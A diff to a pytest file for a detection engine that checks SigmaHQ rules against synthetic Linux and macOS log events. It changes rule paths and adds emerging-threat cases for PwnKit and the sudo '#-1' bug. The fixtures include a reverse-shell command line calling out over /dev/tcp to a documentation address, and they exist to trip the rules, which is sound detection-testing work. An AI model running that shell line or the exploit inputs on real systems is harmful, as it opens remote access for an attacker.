@@ -17,7 +17,8 @@ from detections.engine.apply import match_events
 
 REPO_ROOT = Path(__file__).resolve().parents[2]
 SHARED_DATA = Path(os.environ.get("SIGSTREAM_SHARED_DATA", REPO_ROOT.parent / "shared" / "data"))
-RULES = SHARED_DATA / "sigma" / "rules"
+SIGMA = SHARED_DATA / "sigma"
+RULES = SIGMA / "rules"
 MIN_PLANNED = 0.95
 
 _counter = iter(range(1, 1_000_000))
@@ -50,9 +51,9 @@ def log(service: str | None, message: str, program: str | None = None) -> dict:
 
 
 def plan_of(rule: str) -> DetectionPlan:
-    path = RULES / rule
+    path = SIGMA / rule
     if not path.is_file():
-        pytest.skip(f"SigmaHQ rule {rule} not found under {RULES} (expected ../shared/data)")
+        pytest.skip(f"SigmaHQ rule {rule} not found under {SIGMA} (expected ../shared/data)")
     plan = load_plan([path])
     assert len(plan.rules) == 1, [r.message for r in plan.rejections]
     return plan
@@ -66,7 +67,7 @@ def firing(rule: str, events: list[dict]) -> list[int]:
 # (rule, an event that must fire it, a benign event of the same kind)
 CASES: dict[str, tuple[str, dict, dict]] = {
     "linux process_creation": (
-        "linux/process_creation/proc_creation_lnx_base64_execution.yml",
+        "rules/linux/process_creation/proc_creation_lnx_base64_execution.yml",
         proc(
             "linux",
             Image="/usr/bin/dash",
@@ -78,7 +79,7 @@ CASES: dict[str, tuple[str, dict, dict]] = {
         proc("linux", Image="/usr/bin/base64", CommandLine="base64 -d backup.b64"),
     ),
     "linux process_creation, user and directory": (
-        "linux/process_creation/proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml",
+        "rules/linux/process_creation/proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml",
         proc(
             "linux",
             Image="/bin/sh",
@@ -97,7 +98,7 @@ CASES: dict[str, tuple[str, dict, dict]] = {
         ),
     ),
     "linux file_event": (
-        "linux/file_event/file_event_lnx_wget_download_file_in_tmp_dir.yml",
+        "rules/linux/file_event/file_event_lnx_wget_download_file_in_tmp_dir.yml",
         event(
             "file_event",
             "linux",
@@ -115,7 +116,7 @@ CASES: dict[str, tuple[str, dict, dict]] = {
         ),
     ),
     "linux network_connection": (
-        "linux/network_connection/net_connection_lnx_susp_malware_callback_port.yml",
+        "rules/linux/network_connection/net_connection_lnx_susp_malware_callback_port.yml",
         event(
             "network_connection",
             "linux",
@@ -139,12 +140,12 @@ CASES: dict[str, tuple[str, dict, dict]] = {
         ),
     ),
     "auditd EXECVE record, fields and keywords": (
-        "linux/auditd/execve/lnx_auditd_binary_padding.yml",
+        "rules/linux/auditd/execve/lnx_auditd_binary_padding.yml",
         auditd(type="EXECVE", argc=4, a0="truncate", a1="-s", a2="+4096", a3="/tmp/implant"),
         auditd(type="EXECVE", argc=2, a0="ls", a1="-la"),
     ),
     "auditd SYSCALL record, enriched name": (
-        "linux/auditd/syscall/lnx_auditd_web_rce.yml",
+        "rules/linux/auditd/syscall/lnx_auditd_web_rce.yml",
         auditd(
             type="SYSCALL",
             syscall=59,
@@ -163,7 +164,7 @@ CASES: dict[str, tuple[str, dict, dict]] = {
         auditd(type="SYSCALL", syscall=59, SYSCALL="execve", euid=1000, exe="/usr/bin/dash"),
     ),
     "auditd PATH record": (
-        "linux/auditd/lnx_auditd_keylogging_with_pam_d.yml",
+        "rules/linux/auditd/lnx_auditd_keylogging_with_pam_d.yml",
         auditd(
             type="PATH",
             name="/etc/pam.d/system-auth",
@@ -173,42 +174,72 @@ CASES: dict[str, tuple[str, dict, dict]] = {
         auditd(type="PATH", name="/etc/pam.d/sshd", nametype="NORMAL"),
     ),
     "sshd log": (
-        "linux/builtin/sshd/lnx_sshd_susp_ssh.yml",
+        "rules/linux/builtin/sshd/lnx_sshd_susp_ssh.yml",
         log("sshd", "error: Corrupted MAC on input. [preauth]", "sshd"),
         log("sshd", "Accepted publickey for ops from 10.0.0.8 port 50022 ssh2", "sshd"),
     ),
     "syslog": (
-        "linux/builtin/syslog/lnx_syslog_security_tools_disabling_syslog.yml",
+        "rules/linux/builtin/syslog/lnx_syslog_security_tools_disabling_syslog.yml",
         log("syslog", "Stopping falcon-sensor.service - CrowdStrike Falcon Sensor", "systemd"),
         log("syslog", "Started Daily apt download activities.", "systemd"),
     ),
     "vsftpd log": (
-        "linux/builtin/vsftpd/lnx_vsftpd_susp_error_messages.yml",
+        "rules/linux/builtin/vsftpd/lnx_vsftpd_susp_error_messages.yml",
         log("vsftpd", '[ftp] FAIL LOGIN: Client "::ffff:203.0.113.7", weird status: 3'),
         log("vsftpd", '[ftp] OK LOGIN: Client "::ffff:10.0.0.7"'),
     ),
     "clamav log": (
-        "linux/builtin/clamav/lnx_clamav_relevant_message.yml",
+        "rules/linux/builtin/clamav/lnx_clamav_relevant_message.yml",
         log("clamav", "/srv/www/upload/x.php: Php.Webshell.Generic-1 FOUND", "clamd"),
         log("clamav", "/srv/www/upload/x.php: OK", "clamd"),
     ),
     "cron log": (
-        "linux/builtin/cron/lnx_cron_crontab_file_modification.yml",
+        "rules/linux/builtin/cron/lnx_cron_crontab_file_modification.yml",
         log("cron", "(root) REPLACE (root)", "crontab"),
         log("cron", "(root) CMD (run-parts /etc/cron.hourly)", "CRON"),
     ),
     "guacamole log": (
-        "linux/builtin/guacamole/lnx_guacamole_susp_guacamole.yml",
+        "rules/linux/builtin/guacamole/lnx_guacamole_susp_guacamole.yml",
         log("guacamole", 'User "admin" joined connection "$abc" (2 users now present)', "guacd"),
         log("guacamole", 'User "admin" joined connection "$abc" (1 users now present)', "guacd"),
     ),
+    "auth log (emerging threat)": (
+        "rules-emerging-threats/2021/Exploits/CVE-2021-4034/"
+        "lnx_auth_exploit_cve_2021_4034_pwnkit_lpe.yml",
+        log(
+            "auth",
+            "pkexec --version: The value for environment variable XAUTHORITY contains "
+            "suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=GCONV_PATH=.]",
+            "pkexec",
+        ),
+        log("auth", "pkexec: pam_unix(polkit-1:session): session opened for user root", "pkexec"),
+    ),
+    "sudo log, parsed fields (emerging threat)": (
+        "rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml",
+        event(
+            "linux_log",
+            "linux",
+            service="sudo",
+            program="sudo",
+            message="alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id",
+            extra={"TTY": "pts/0", "PWD": "/home/alice", "USER": "#-1", "COMMAND": "/usr/bin/id"},
+        ),
+        event(
+            "linux_log",
+            "linux",
+            service="sudo",
+            program="sudo",
+            message="alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
+            extra={"TTY": "pts/0", "PWD": "/home/alice", "USER": "root", "COMMAND": "/usr/bin/id"},
+        ),
+    ),
     "linux, any log (product-only rule)": (
-        "linux/builtin/lnx_shell_clear_cmd_history.yml",
+        "rules/linux/builtin/lnx_shell_clear_cmd_history.yml",
         log(None, "root: history -c", "bash"),
         log(None, "root: history | tail", "bash"),
     ),
     "macos process_creation": (
-        "macos/process_creation/proc_creation_macos_base64_decode.yml",
+        "rules/macos/process_creation/proc_creation_macos_base64_decode.yml",
         proc(
             "macos",
             Image="/usr/bin/base64",
@@ -220,7 +251,7 @@ CASES: dict[str, tuple[str, dict, dict]] = {
         proc("macos", Image="/usr/bin/base64", CommandLine="base64 -i report.pdf"),
     ),
     "macos file_event": (
-        "macos/file_event/file_event_macos_susp_startup_item_created.yml",
+        "rules/macos/file_event/file_event_macos_susp_startup_item_created.yml",
         event(
             "file_event",
             "macos",
@@ -278,7 +309,7 @@ def test_auditd_fields_are_found_in_extra_too() -> None:
 def test_product_only_rules_search_every_linux_event() -> None:
     """A rule naming only ``product: linux`` searches the text of every Linux event (here a
     process start's command line), and no other product's."""
-    rule = "linux/builtin/lnx_susp_jexboss.yml"
+    rule = "rules/linux/builtin/lnx_susp_jexboss.yml"
     text = "bash -c /bin/bash -i >&/dev/tcp/203.0.113.5/4444 0>&1"
     events = [
         proc("linux", Image="/usr/bin/bash", CommandLine=text),
